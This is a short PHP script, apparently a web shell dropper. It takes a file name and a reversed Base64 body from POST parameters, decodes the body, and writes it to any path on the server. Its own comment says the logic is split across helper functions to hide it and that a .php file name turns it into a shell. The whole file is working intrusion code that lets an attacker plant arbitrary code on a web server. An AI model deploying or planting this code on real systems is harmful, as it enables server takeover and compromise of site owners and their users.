<?php
// A writer hidden in two helpers: the posted body is Base64-decoded in one, handed to another that
// opens the posted file name for writing and puts the text there (a .php name makes it a shell).
function d0($s) { return base64_decode(strrev($s)); }
function w0($path, $data) { $fh = fopen($path, 'w+'); fputs($fh, $data); fclose($fh); return is_file($path); }
function w1($to, $what) { return w0($to, d0($what)); }
if (isset($_POST['n'], $_POST['b'])) {
    echo w1($_POST['n'], $_POST['b']) ? 'ok' : 'no';
}
